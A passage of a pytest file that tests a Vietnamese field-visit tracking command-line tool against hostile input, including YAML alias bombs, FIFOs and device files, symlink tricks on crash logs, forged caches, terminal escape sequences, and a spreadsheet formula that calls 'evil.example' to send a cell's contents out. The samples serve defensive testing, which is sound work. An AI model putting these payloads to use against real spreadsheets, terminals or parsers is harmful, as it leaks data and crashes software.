"""Issue 19, "every door checked": hostile and careless input at each door.

Each test is one row of the issue's table.  Commands run as real processes
(``python -m theodoi``) under a small wrapper that reports the process's
peak memory and CPU time, so that "ends within 15 s and 300 MB with no
traceback and no exit 3" is measured, not assumed.  Special files are made
in the test's own folder (``os.mkfifo``, ``os.mknod``), never in /dev.
"""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import write_data_folder

# Runs a command, then prints the peak resident memory (kB) and CPU seconds
# of it and of every process it waited for (git, for the audit).
_WRAPPER = """
import resource, subprocess, sys
completed = subprocess.run(sys.argv[1:])
usage = resource.getrusage(resource.RUSAGE_CHILDREN)
sys.stderr.write(f"\\n@@usage {usage.ru_maxrss} {usage.ru_utime + usage.ru_stime}\\n")
sys.exit(completed.returncode)
"""

MAX_MB = 300
MAX_CPU_SECONDS = 15


@dataclass(frozen=True)
class Run:
    returncode: int
    stdout: str
    stderr: str
    peak_mb: float
    cpu_seconds: float


def theodoi(*args: str, cwd: Path, env: dict[str, str] | None = None,
            wall_timeout: float = 120) -> Run:
    """``python -m theodoi ARGS`` in ``cwd``, English, pinned clock, private cache."""
    full_env = {k: v for k, v in os.environ.items()
                if k not in ("THEODOI_DATA", "THEODOI_LANG", "THEODOI_TODAY", "THEODOI_NOW")}
    full_env.update({"THEODOI_LANG": "en", "THEODOI_TODAY": "2024-09-20",
                     "THEODOI_CACHE_DIR": str(cwd / ".cache-theodoi"),
                     "XDG_STATE_HOME": str(cwd / ".state")})
    full_env.update(env or {})
    completed = subprocess.run(
        [sys.executable, "-c", _WRAPPER, sys.executable, "-m", "theodoi", *args],
        capture_output=True, text=True, encoding="utf-8", errors="replace", cwd=cwd,
        env=full_env, stdin=subprocess.DEVNULL, timeout=wall_timeout)
    stderr, _, usage = completed.stderr.rpartition("\n@@usage ")
    peak_kb, cpu = usage.split()
    return Run(completed.returncode, completed.stdout, stderr, int(peak_kb) / 1024,
               float(cpu))


def assert_bounded(run: Run) -> None:
    """Ended in bounds, with no traceback, not as a bug."""
    assert "Traceback" not in run.stderr + run.stdout
    assert run.returncode != 3, run.stderr[-2000:]
    assert run.peak_mb < MAX_MB, run.peak_mb
    assert run.cpu_seconds < MAX_CPU_SECONDS, run.cpu_seconds


def assert_clean_failure(run: Run, code: int = 1) -> None:
    """Ended in bounds with the exit code for the problem, and a message."""
    assert_bounded(run)
    assert run.returncode == code, (run.returncode, run.stdout[-2000:], run.stderr[-2000:])


VISIT = """- id: V-20240916-001
  date: 2024-09-16
  cadre: CB01
  commune: "02068"
  kind: working
  notes: Làm việc với Đảng ủy xã
  recorded_at: 2024-09-16T10:00:00+07:00
"""

REPORTS = (("validate",), ("summary", "--week", "2024-W38"), ("overdue",), ("coverage",),
           ("visit", "list"))


def office(tmp_path: Path) -> Path:
    """A small data folder with one good day file; returns the folder to run in."""
    data = write_data_folder(tmp_path / "data")
    day = data / "visits" / "2024"
    day.mkdir(parents=True)
    (day / "2024-09-16.yaml").write_text(VISIT, encoding="utf-8")
    return tmp_path


def broken_day(tmp_path: Path) -> Path:
    return tmp_path / "data" / "visits" / "2024" / "2024-09-17.yaml"


def run_every_report(cwd: Path, expect: str) -> None:
    """validate exits 1 naming the file and the check; the reports end in
    bounds and say on stderr that they could not read everything."""
    run = theodoi("validate", "--data", "data", cwd=cwd)
    assert_clean_failure(run)
    assert "data/visits/2024/2024-09-17.yaml" in run.stdout, run.stdout
    assert expect in run.stdout, run.stdout
    for args in REPORTS[1:]:
        run = theodoi(*args, "--data", "data", cwd=cwd)
        assert_bounded(run)
        assert "error" in run.stderr, (args, run.stdout, run.stderr)


# --- data files: special files, endless and huge files, YAML bombs ------------------------

def test_a_day_file_that_is_a_fifo_is_a_problem_not_a_hang(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    os.mkfifo(broken_day(cwd))
    run_every_report(cwd, "[special-file]")
    run = theodoi("visit", "add", "--data", "data", "--commune", "02068", "--date", "2024-09-17",
                  "--note", "x", cwd=cwd)
    assert_clean_failure(run)
    assert stat.S_ISFIFO(broken_day(cwd).lstat().st_mode)  # not replaced


@pytest.mark.skipif(os.geteuid() != 0, reason="mknod of a device needs root")
def test_a_day_file_linked_to_an_endless_device_is_refused(tmp_path: Path) -> None:
    """Refused as a link (the trail issue: no link is followed in the journals),
    never read; the device itself where the day file is, as a special file."""
    cwd = office(tmp_path)
    zero = tmp_path / "zero"
    os.mknod(zero, 0o666 | stat.S_IFCHR, os.makedev(1, 5))  # what /dev/zero is
    broken_day(cwd).symlink_to(zero)
    run_every_report(cwd, "[data-file-link]")
    broken_day(cwd).unlink()
    os.mknod(broken_day(cwd), 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    run_every_report(cwd, "[special-file]")


def test_a_day_file_of_200_mb_is_refused_unread(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    with open(broken_day(cwd), "wb") as handle:
        handle.write(VISIT.encode())
        handle.truncate(200 * 1024 * 1024)  # sparse: 200 MB to read, none on disk
    run_every_report(cwd, "[file-too-large]")


ALIAS_BOMB = """- id: V-20240917-001
  date: 2024-09-17
  cadre: CB01
  commune: "02068"
  extra: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
""" + "".join(f"  x{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10))

DEEP = """- id: V-20240917-001
  date: 2024-09-17
  cadre: CB01
  commune: "02068"
  extra: """ + "[" * 990 + "]" * 990 + "\n"


def test_a_yaml_alias_bomb_in_a_day_file_is_refused_before_expansion(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    broken_day(cwd).write_text(ALIAS_BOMB, encoding="utf-8")
    run_every_report(cwd, "[yaml-aliases]")
    run = theodoi("validate", "--data", "data", cwd=cwd)
    # x4 stands for 111,111 values: the line where the limit is passed.
    assert "data/visits/2024/2024-09-17.yaml:9:47: error [yaml-aliases]" in run.stdout


def test_yaml_nested_990_deep_in_a_day_file_is_refused(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    broken_day(cwd).write_text(DEEP, encoding="utf-8")
    run_every_report(cwd, "[yaml-too-deep]")


def test_the_yaml_limits_leave_a_hand_made_anchor_alone(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    broken_day(cwd).write_text(
        VISIT.replace("20240916", "20240917").replace("2024-09-16", "2024-09-17")
        .replace("notes: Làm", "notes: &n Làm") + VISIT.replace("001", "002")
        .replace("2024-09-16", "2024-09-17").replace("notes: Làm việc với Đảng ủy xã", "notes: *n")
        .replace("20240916", "20240917"), encoding="utf-8")
    run = theodoi("visit", "list", "--data", "data", "--format", "json", cwd=cwd)
    assert run.returncode == 0, run.stderr
    notes = [visit["notes"] for visit in json.loads(run.stdout)]
    assert notes.count("Làm việc với Đảng ủy xã") == 3


def test_a_register_that_is_a_fifo_is_refused(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    (cwd / "data" / "cadres.csv").unlink()
    os.mkfifo(cwd / "data" / "cadres.csv")
    run = theodoi("validate", "--data", "data", cwd=cwd)
    assert_clean_failure(run)
    assert "data/cadres.csv: error [special-file]" in run.stdout


# --- the same bombs in git history (issue 18, item 7) ------------------------------------

def _git(root: Path, *args: str) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update({"GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull,
                "GIT_AUTHOR_NAME": "Văn thư", "GIT_AUTHOR_EMAIL": "vanthu@example.vn",
                "GIT_COMMITTER_NAME": "Văn thư", "GIT_COMMITTER_EMAIL": "vanthu@example.vn",
                "GIT_AUTHOR_DATE": "2024-09-17T09:00:00+07:00",
                "GIT_COMMITTER_DATE": "2024-09-17T09:00:00+07:00"})
    subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, env=env)


@pytest.mark.parametrize(("bomb", "check"), [(ALIAS_BOMB, "yaml-aliases"),
                                             (DEEP, "yaml-too-deep")])
def test_a_bomb_committed_then_deleted_leaves_audit_history_summary_bounded(
        tmp_path: Path, bomb: str, check: str) -> None:
    cwd = office(tmp_path)
    _git(cwd, "init", "-q", "-b", "main")
    _git(cwd, "add", "-A")
    _git(cwd, "commit", "-q", "-m", "Dữ liệu ban đầu")
    broken_day(cwd).write_text(bomb, encoding="utf-8")
    _git(cwd, "add", "-A")
    _git(cwd, "commit", "-q", "-m", "Ghi chuyến công tác")
    broken_day(cwd).unlink()
    _git(cwd, "commit", "-q", "-a", "-m", "Xoá")
    validate = theodoi("validate", "--data", "data", cwd=cwd)
    assert validate.returncode == 0, validate.stdout  # the working tree is clean
    outputs = {}
    for args in (("audit",), ("history",), ("summary", "--week", "2024-W38")):
        run = theodoi(*args, "--data", "data", cwd=cwd)
        assert_bounded(run)
        outputs[args[0]] = run
    audit = outputs["audit"]
    assert audit.returncode == 1, audit.stdout + audit.stderr
    found = audit.stdout + audit.stderr
    assert f"[{check}]" in found and "2024-09-17.yaml" in found, found
    # history names the version that cannot be read, as path@BLOB:LINE.
    assert re.search(rf"data/visits/2024/2024-09-17\.yaml@[0-9a-f]{{12}}:\d+:\d+: error "
                     rf"\[{check}\]", outputs["history"].stdout), outputs["history"].stdout


# --- the crash log (item 7) ---------------------------------------------------------------

# A real process in which a library function fails as a bug would.
_CRASHING = """
import os, sys
import theodoi.workspace.validation
def boom(*args, **kwargs):
    raise RuntimeError("boom")
theodoi.workspace.validation.validate = boom
from theodoi.cli.main import main
sys.exit(main(sys.argv[1:]))
"""


# An environment as cron's ``env -i`` leaves it (the interpreter finds theodoi
# as installed; PYTHONPATH is kept for a run against another copy).
BARE = {name: os.environ[name] for name in ("PATH", "PYTHONPATH") if name in os.environ}


def _crash(cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", _CRASHING, "--lang", "en", "validate",
                           "--data", "data"], cwd=cwd, env=env, capture_output=True, text=True,
                          timeout=120)


def test_the_crash_log_goes_to_the_users_state_folder_made_private(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    env = {**BARE,
           "XDG_STATE_HOME": str(tmp_path / "state"), "HOME": str(tmp_path / "home"),
           "THEODOI_CACHE_DIR": str(tmp_path / "cache")}
    crashed = _crash(cwd, env)
    log = tmp_path / "state" / "theodoi" / "theodoi-errors.log"
    assert crashed.returncode == 3
    assert f"The details are in {log};" in crashed.stderr
    assert "RuntimeError: boom" in log.read_text(encoding="utf-8")
    assert stat.S_IMODE(log.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(log.stat().st_mode) == 0o600


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder to another user needs root")
def test_with_no_home_the_crash_log_never_follows_another_users_link(tmp_path: Path) -> None:
    """cron under ``env -i``: no HOME, no XDG folder, a shared temporary folder
    where another user has planted links to a file only root may write."""
    cwd = office(tmp_path)
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o777)
    shared.chmod(0o1777)  # as /tmp is: anyone may create, sticky
    root_only = tmp_path / "root-only"
    root_only.write_text("secret\n")
    root_only.chmod(0o600)
    (shared / "theodoi-errors.log").symlink_to(root_only)  # where the log used to go
    planted = shared / f"theodoi-{os.getuid()}"  # the private folder's name, taken first
    planted.mkdir()
    (planted / "theodoi-errors.log").symlink_to(root_only)
    os.chown(planted, 4242, 4242)
    os.lchown(planted / "theodoi-errors.log", 4242, 4242)
    env = {**BARE, "TMPDIR": str(shared)}
    crashed = _crash(cwd, env)
    assert crashed.returncode == 3
    assert root_only.read_text() == "secret\n"
    assert "(no log could be written)" in crashed.stderr
    # Once the planted folder is gone, the log goes into a folder made private.
    (planted / "theodoi-errors.log").unlink()
    planted.rmdir()
    crashed = _crash(cwd, env)
    assert root_only.read_text() == "secret\n"
    assert f"The details are in {planted / 'theodoi-errors.log'};" in crashed.stderr
    assert stat.S_IMODE(planted.stat().st_mode) == 0o700


def test_the_crash_log_is_not_written_through_a_link_in_the_state_folder(
        tmp_path: Path) -> None:
    cwd = office(tmp_path)
    target = tmp_path / "elsewhere.txt"
    target.write_text("untouched\n")
    (tmp_path / "state" / "theodoi").mkdir(parents=True)
    (tmp_path / "state" / "theodoi" / "theodoi-errors.log").symlink_to(target)
    env = {**BARE,
           "XDG_STATE_HOME": str(tmp_path / "state"), "TMPDIR": str(tmp_path / "tmp"),
           "THEODOI_CACHE_DIR": str(tmp_path / "cache")}
    (tmp_path / "tmp").mkdir()
    crashed = _crash(cwd, env)
    assert crashed.returncode == 3
    assert target.read_text() == "untouched\n"
    fallback = tmp_path / "tmp" / f"theodoi-{os.getuid()}" / "theodoi-errors.log"
    assert f"The details are in {fallback};" in crashed.stderr


# --- the cache (item 8) ----------------------------------------------------------------------

def _five_visits(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A data folder with 5 visits to Đại Sảo in one day file, its cache built
    (in process, with no racy wait); returns (cwd, cache folder, cache file)."""
    from theodoi.store.cache import open_cache
    from theodoi.visits.columns import load_visit_columns

    cwd = office(tmp_path)
    day = cwd / "data" / "visits" / "2024" / "2024-09-16.yaml"
    day.write_text("".join(VISIT.replace("-001", f"-00{n}") for n in range(1, 6)),
                   encoding="utf-8")
    cache = tmp_path / "cache"
    assert load_visit_columns(cwd / "data", cache, racy_seconds=0).files_read == 1
    path = open_cache(cache, cwd / "data").path
    assert path is not None and path.exists()
    return cwd, cache, path


def _forge(path: Path, entry_of: object) -> None:
    """Rewrite the cache as a forger would, with the library's own writer (a
    valid CRC): the day file's entry replaced by ``entry_of(old entry)``."""
    from theodoi.store.cache import _read_payload, _write_payload

    notes: list[object] = []
    vocab, entries = _read_payload(path, notes)  # type: ignore[arg-type]
    name = "2024/2024-09-16.yaml"
    entries[name] = entry_of(entries[name])  # type: ignore[operator]
    _write_payload(path, (vocab, entries), [])


def _visit_count(cwd: Path, cache: Path) -> tuple[int, str]:
    run = theodoi("coverage", "--by", "commune", "--from", "2024-09-01", "--to", "2024-09-30",
                  "--format", "json", "--data", "data", cwd=cwd,
                  env={"THEODOI_CACHE_DIR": str(cache)})
    assert_bounded(run)
    assert run.returncode == 0, run.stderr
    rows = json.loads(run.stdout)["rows"]
    return next(r["visits"] for r in rows if r["commune_code"] == "02068"), run.stderr


def _no_visits(entry: tuple[object, ...]) -> tuple[object, ...]:
    key, _count, arrays, *_rest = entry
    return (key, 0, tuple(b"" for _ in arrays), b"", b"", (0, 0), (), ())


@pytest.mark.parametrize("how", ["folder-writable-by-others", "file-writable-by-group",
                                 "folder-of-another-user"])
def test_a_cache_that_is_not_ours_is_ignored_with_one_warning(tmp_path: Path, how: str) -> None:
    cwd, cache, path = _five_visits(tmp_path)
    assert _visit_count(cwd, cache) == (5, "")
    _forge(path, _no_visits)
    assert _visit_count(cwd, cache) == (0, "")  # the cache is trusted: it is ours
    forged = path.read_bytes()
    if how == "folder-writable-by-others":
        cache.chmod(0o777)
    elif how == "file-writable-by-group":
        path.chmod(0o664)
    elif os.geteuid() == 0:
        os.chown(cache, 4242, 4242)
    else:
        pytest.skip("giving a folder to another user needs root")
    count, said = _visit_count(cwd, cache)
    assert count == 5
    assert said == (f"theodoi: the cache {path} is not yours alone (another user owns it or "
                    "may write it): it is not used\n")
    assert path.read_bytes() == forged  # neither read nor written


@pytest.mark.parametrize("shape", ["count-as-text", "short-columns", "code-past-vocabulary",
                                   "day-out-of-range", "entry-too-short", "vocabulary-of-numbers"])
def test_a_cache_of_the_wrong_shape_is_rebuilt_not_a_crash(tmp_path: Path, shape: str) -> None:
    from theodoi.store.cache import _read_payload, _write_payload

    cwd, cache, path = _five_visits(tmp_path)

    def spoil(entry: tuple[object, ...]) -> tuple[object, ...]:
        key, count, arrays, *rest = entry
        assert isinstance(arrays, tuple)
        if shape == "count-as-text":
            return (key, "5", arrays, *rest)
        if shape == "short-columns":
            return (key, count, tuple(a[:4] for a in arrays), *rest)
        if shape == "code-past-vocabulary":  # the commune column: code 99999
            return (key, count, (arrays[0], arrays[1], (99999).to_bytes(4, sys.byteorder) * 5,
                                 *arrays[3:]), *rest)
        if shape == "day-out-of-range":
            return (key, count, ((10**9).to_bytes(4, sys.byteorder) * 5, *arrays[1:]), *rest)
        return (key, count)

    if shape == "vocabulary-of-numbers":
        vocab, entries = _read_payload(path, [])
        _write_payload(path, ([len(t) for t in vocab], entries), [])
    else:
        _forge(path, spoil)
    assert _visit_count(cwd, cache) == (5, "")


# --- imports read what the file says (item 6, first half) -----------------------------------

@pytest.mark.parametrize(("row", "found"), [
    ("2024-09-18,song cau,,field survey,Kiểm tra, đôn đốc", 6),  # an unquoted comma
    ("2024-09-18,song cau", 2)])  # fields missing
def test_a_csv_row_with_more_or_fewer_fields_than_its_header_is_refused(
        tmp_path: Path, row: str, found: int) -> None:
    cwd = office(tmp_path)
    (cwd / "log.csv").write_text("Date,Commune,Cadre,Kind,Notes\n"
                                 "2024-09-17,dai sao,,field survey,Đúng\n" + row + "\n",
                                 encoding="utf-8")
    run = theodoi("import", "visits", "log.csv", "--data", "data", cwd=cwd)
    assert_clean_failure(run)
    assert (f"log.csv:3:1 (A3): error [import-row-fields]: row 3 has {found} fields where the "
            "header has 5: a comma or semicolon inside a cell that is not quoted?") in run.stderr, run.stderr
    assert not (cwd / "data" / "visits" / "2024" / "2024-09-17.yaml").exists()
    assert not (cwd / "data" / "visits" / "2024" / "2024-09-18.yaml").exists()


# --- spreadsheets (item 2) ------------------------------------------------------------------

FORMULA_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_csv_cells_that_would_start_a_formula_are_made_inert(tmp_path: Path) -> None:
    import csv
    import io

    cwd = office(tmp_path)
    day = cwd / "data" / "visits" / "2024" / "2024-09-16.yaml"
    day.write_text(VISIT.replace("Làm việc với Đảng ủy xã", "'" + FORMULA_NOTE.replace(
        "'", "''") + "'").replace("kind: working", "kind: working\n  difficulties:\n"
                                  "  - \"+84 thiếu vốn\"\n  - \"@SUM(1)\""), encoding="utf-8")
    (cwd / "data" / "cadres.csv").write_text(
        "id,name,title,agency,phone,email\nCB01,-Hà Thị Ngần,Tổng biên tập,Báo Bắc Kạn,,\n"
        "CB02,Nông Văn Bình,Giám đốc,Sở Tài chính,,\nCB03,Đàm Thị Hoa,Phó Giám đốc,Sở Tài chính,,\n"
        "CB04,Lý Văn Đức,Trưởng ban,Ban Dân vận Tỉnh ủy,,\n", encoding="utf-8")
    listed = theodoi("visit", "list", "--format", "csv", "--data", "data", cwd=cwd)
    assert listed.returncode == 0, listed.stderr
    [row] = list(csv.DictReader(io.StringIO(listed.stdout)))
    assert row["notes"] == "'" + FORMULA_NOTE
    assert row["difficulties"] == "'+84 thiếu vốn\n@SUM(1)"  # the cell starts with "+"
    assert row["cadre_name"] == "'-Hà Thị Ngần"
    coverage = theodoi("coverage", "--by", "cadre", "--from", "2024-09-01", "--to", "2024-09-30",
                       "--format", "csv", "--data", "data", cwd=cwd)
    rows = list(csv.DictReader(io.StringIO(coverage.stdout)))
    assert "'-Hà Thị Ngần" in [r["cadre_name"] for r in rows]
    assert all(not value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())
    # xlsx keeps writing strings: the same text, never a formula.
    import openpyxl

    made = theodoi("visit", "list", "--format", "xlsx", "--output", "visits.xlsx", "--data",
                   "data", cwd=cwd)
    assert made.returncode == 0, made.stderr
    sheet = openpyxl.load_workbook(cwd / "visits.xlsx").active
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value == FORMULA_NOTE]
    assert len(cells) == 1 and cells[0].data_type == "s"
    # A cell of such a CSV imported again gives back the note as typed.
    (cwd / "again.csv").write_text(
        "Date,Commune,Cadre,Kind,Notes\n2024-09-18,dai sao,,field survey,"
        + '"' + row["notes"].replace('"', '""') + '"\n', encoding="utf-8")
    again = theodoi("import", "visits", "again.csv", "--data", "data", cwd=cwd)
    assert again.returncode == 0, again.stderr
    import yaml

    [visit] = yaml.safe_load((cwd / "data" / "visits" / "2024" / "2024-09-18.yaml").read_text(
        encoding="utf-8"))
    assert visit["notes"] == FORMULA_NOTE


@pytest.mark.parametrize(("text", "check"), [
    ("".join(f"{'  ' * n}k{n}:\n" for n in range(70)) + "  " * 70 + "x\n", "yaml-too-deep"),
    ("- " * 70 + "x\n", "yaml-too-deep"),
    ("a: " + "{b: " * 70 + "1" + "}" * 70 + "\n", "yaml-too-deep"),
    ("a: &a x\nb: [" + ", ".join(["*a"] * 1001) + "]\n", "yaml-aliases"),
])
def test_every_way_past_the_yaml_limits_is_caught(text: str, check: str) -> None:
    from theodoi.base.problems import TheodoiError
    from theodoi.store.yamlio import compose

    with pytest.raises(TheodoiError) as raised:
        compose(text, "f.yaml")
    assert raised.value.check.code == check


@pytest.mark.parametrize("text", [
    "".join(f"{'  ' * n}k{n}:\n" for n in range(60)) + "  " * 60 + "x\n",
    "a: &a x\nb: [" + ", ".join(["*a"] * 1000) + "]\n",
    "- difficulties: []\n  proposals: []\n" * 100])
def test_texts_within_the_yaml_limits_are_read(text: str) -> None:
    from theodoi.store.yamlio import compose

    assert compose(text, "f.yaml") is not None


# --- --output (item 3) ----------------------------------------------------------------------

@pytest.mark.parametrize("target", ["data/assignments.yaml", "data/cadres.csv",
                                    "data/visits/2024/2024-09-16.yaml", "./data/../data/communes.csv"])
def test_output_never_replaces_a_register_or_a_journal(tmp_path: Path, target: str) -> None:
    cwd = office(tmp_path)
    before = (cwd / target).read_bytes()
    run = theodoi("coverage", "--format", "csv", "--output", target, "--data", "data", cwd=cwd)
    assert_clean_failure(run, 2)
    assert (f"error [output-is-data]: --output {os.path.normpath(target)} is in the data folder's registers or "
            "journals: a report never replaces them; give another name") in run.stderr
    assert (cwd / target).read_bytes() == before


def test_output_may_still_go_into_a_folder_of_its_own_inside_the_data(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    run = theodoi("coverage", "--format", "csv", "--output", "data/bao-cao/tuan.csv", "--data",
                  "data", cwd=cwd)
    assert run.returncode == 0, run.stderr
    assert (cwd / "data" / "bao-cao" / "tuan.csv").read_text(encoding="utf-8").startswith(
        "district_code")


@pytest.mark.parametrize("kind", ["device", "fifo"])
def test_output_refuses_a_device_or_a_fifo(tmp_path: Path, kind: str) -> None:
    cwd = office(tmp_path)
    node = cwd / "null"
    if kind == "fifo":
        os.mkfifo(node)
    elif os.geteuid() == 0:
        os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # what /dev/null is
    else:
        pytest.skip("mknod of a device needs root")
    run = theodoi("overdue", "--format", "csv", "-o", "null", "--data", "data", cwd=cwd)
    assert_clean_failure(run, 2)
    assert "error [output-special-file]: --output null is a " in run.stderr
    mode = node.lstat().st_mode
    assert stat.S_ISFIFO(mode) if kind == "fifo" else stat.S_ISCHR(mode)


def test_output_replaces_a_symbolic_link_rather_than_writing_through_it(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    target = cwd / "kept.txt"
    target.write_text("kept\n")
    (cwd / "report.csv").symlink_to(target)
    run = theodoi("overdue", "--format", "csv", "-o", "report.csv", "--data", "data", cwd=cwd)
    assert run.returncode == 0, run.stderr
    assert target.read_text() == "kept\n"
    assert not (cwd / "report.csv").is_symlink()
    assert (cwd / "report.csv").read_text(encoding="utf-8").startswith("commune_code")


# --- limits on every number (item 5) --------------------------------------------------------

@pytest.mark.parametrize(("args", "said"), [
    (("summary", "--week", "9999-W52"), "--week: '9999-W52' is not a week"),
    (("review", "--period", "9999"), "--period: '9999' is not a period"),
    (("overdue", "--days", "99999999"), "--days: give a whole number from 0 to 36600"),
    (("coverage", "--limit", "99999999999"), "--limit: give a whole number from 1 to 1000000"),
    (("proposal", "list", "--older-than", "99999999"),
     "--older-than: give a whole number from 0 to 36600"),
])
def test_numbers_out_of_range_are_usage_errors(tmp_path: Path, args: tuple[str, ...],
                                               said: str) -> None:
    cwd = office(tmp_path)
    run = theodoi(*args, "--data", "data", cwd=cwd)
    assert_clean_failure(run, 2)
    assert said in run.stderr, run.stderr


def test_demo_refuses_a_number_of_visits_without_bound(tmp_path: Path) -> None:
    run = theodoi("demo", "made", "--visits", "99999999999999", cwd=tmp_path, wall_timeout=60)
    assert_clean_failure(run, 2)
    assert "--visits: give a whole number from 0 to 1000000" in run.stderr
    assert not (tmp_path / "made").exists()


@pytest.mark.parametrize("key", ["overdue_days", "proposal_overdue_days", "visits_per_quarter"])
def test_a_setting_past_its_range_is_a_bad_setting(tmp_path: Path, key: str) -> None:
    cwd = office(tmp_path)
    assignments = cwd / "data" / "assignments.yaml"
    text = assignments.read_text(encoding="utf-8")
    text = text.replace("  overdue_days: 90\n", "")
    assignments.write_text(text.replace("settings:\n", f"settings:\n  {key}: "
                                        "1000000000000000000000000000\n"), encoding="utf-8")
    run = theodoi("validate", "--data", "data", cwd=cwd)
    assert_clean_failure(run)
    most = 92 if key == "visits_per_quarter" else 3660
    assert ("data/assignments.yaml:2: error [bad-setting]: " in run.stdout
            and f"a whole number from 1 to {most}" in run.stdout), run.stdout
    if key == "overdue_days":  # the default is used meanwhile: the list is not silently empty
        overdue = theodoi("overdue", "--as-of", "2025-06-01", "--format", "json", "--data",
                          "data", cwd=cwd)
        assert_bounded(overdue)
        assert len(json.loads(overdue.stdout)["rows"]) == 4, overdue.stdout


def test_a_visit_recorded_in_the_future_is_a_problem(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    day = cwd / "data" / "visits" / "2024" / "2024-09-16.yaml"
    day.write_text(VISIT.replace("recorded_at: 2024-09-16T10", "recorded_at: 2031-09-16T10"),
                   encoding="utf-8")
    run = theodoi("validate", "--data", "data", cwd=cwd)
    assert_clean_failure(run)
    assert ("data/visits/2024/2024-09-16.yaml:1: error [recorded-in-future]: visit "
            "V-20240916-001 was recorded on 2031-09-16 (recorded_at), after today (2024-09-20)"
            ) in run.stdout, run.stdout


# --- text is text (item 1) ------------------------------------------------------------------

ESCAPES = "Họp\x1b]0;pwned\x07 dân\x1b[2J\x1b]52;c;ZWNobyBoaQ==\x07"


@pytest.mark.parametrize("note", [ESCAPES, "Dòng một\x0bdòng hai"])
def test_visit_add_refuses_a_control_character_naming_the_field(tmp_path: Path,
                                                                note: str) -> None:
    cwd = office(tmp_path)
    run = theodoi("visit", "add", "--commune", "02068", "--date", "2024-09-18", "--note", note,
                  "--data", "data", cwd=cwd)
    assert_clean_failure(run)
    assert "error [control-character]: notes holds a control character (U+00" in run.stderr
    assert "\x1b" not in run.stderr and "\x07" not in run.stderr
    assert not (cwd / "data" / "visits" / "2024" / "2024-09-18.yaml").exists()


def test_cadre_add_refuses_a_control_character(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    before = (cwd / "data" / "cadres.csv").read_bytes()
    run = theodoi("cadre", "add", "--id", "CB09", "--name", "Lò Văn\x1b[2J Sửa", "--title", "Phó Giám đốc",
                  "--agency", "Sở Nội vụ", "--data", "data", cwd=cwd)
    assert_bounded(run)
    assert run.returncode in (1, 2), run.stderr
    assert "[control-character]: name holds a control character (U+001B)" in run.stderr, \
        run.stderr
    assert (cwd / "data" / "cadres.csv").read_bytes() == before


HAND_WRITTEN = VISIT.replace(
    "notes: Làm việc với Đảng ủy xã",
    'notes: "Họp\\e]0;pwned\\a dân\\e[2J\\vdòng hai"\n  difficulties:\n  - "Thiếu\\vvốn"')


def test_validate_reports_control_characters_in_a_hand_written_file(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    (cwd / "data" / "visits" / "2024" / "2024-09-16.yaml").write_text(HAND_WRITTEN,
                                                                       encoding="utf-8")
    run = theodoi("validate", "--data", "data", cwd=cwd)
    assert_clean_failure(run)
    lines = run.stdout.splitlines()
    assert ("data/visits/2024/2024-09-16.yaml:6: error [control-character]: notes holds a "
            "control character (U+001B): text must be plain text (a line break or a tab pasted "
            "from Word? type it again)") in lines
    assert any("[control-character]: difficulties holds a control character (U+000B)" in line
               for line in lines), lines


def test_what_is_printed_never_carries_a_terminal_escape(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    (cwd / "data" / "visits" / "2024" / "2024-09-16.yaml").write_text(HAND_WRITTEN,
                                                                       encoding="utf-8")
    for args in (("visit", "list"), ("visit", "show", "V-20240916-001"),
                 ("visit", "list", "--format", "csv"), ("visit", "list", "--format", "json"),
                 ("summary", "--week", "2024-W38"), ("proposal", "list")):
        run = theodoi(*args, "--data", "data", cwd=cwd)
        assert_bounded(run)
        for control in ("\x1b", "\x07", "\x0b"):
            assert control not in run.stdout + run.stderr, (args, run.stdout)
    shown = theodoi("visit", "show", "V-20240916-001", "--data", "data", cwd=cwd)
    assert "Họp\\x1b]0;pwned\\x07 dân\\x1b[2J" in shown.stdout, shown.stdout


@pytest.mark.parametrize("output_format", ["docx", "xlsx", "html"])
def test_office_outputs_never_crash_on_control_characters(tmp_path: Path,
                                                          output_format: str) -> None:
    cwd = office(tmp_path)
    (cwd / "data" / "visits" / "2024" / "2024-09-16.yaml").write_text(HAND_WRITTEN,
                                                                       encoding="utf-8")
    target = cwd / f"bao-cao.{output_format}"
    run = theodoi("summary", "--week", "2024-W38", "--format", output_format, "--output",
                  target.name, "--data", "data", cwd=cwd)
    assert_bounded(run)
    assert run.returncode in (0, 1), run.stderr
    assert target.stat().st_size > 0
    if output_format == "xlsx":
        import openpyxl

        openpyxl.load_workbook(target)
    if output_format == "docx":
        import docx

        text = "\n".join(p.text for p in docx.Document(str(target)).paragraphs)
        assert "\x0b" not in text and "\x1b" not in text


def test_an_import_refuses_a_control_character_naming_the_cell(tmp_path: Path) -> None:
    cwd = office(tmp_path)
    (cwd / "log.csv").write_text("Date,Commune,Cadre,Kind,Notes\n"
                                 "2024-09-17,dai sao,,field survey,Đúng\n"
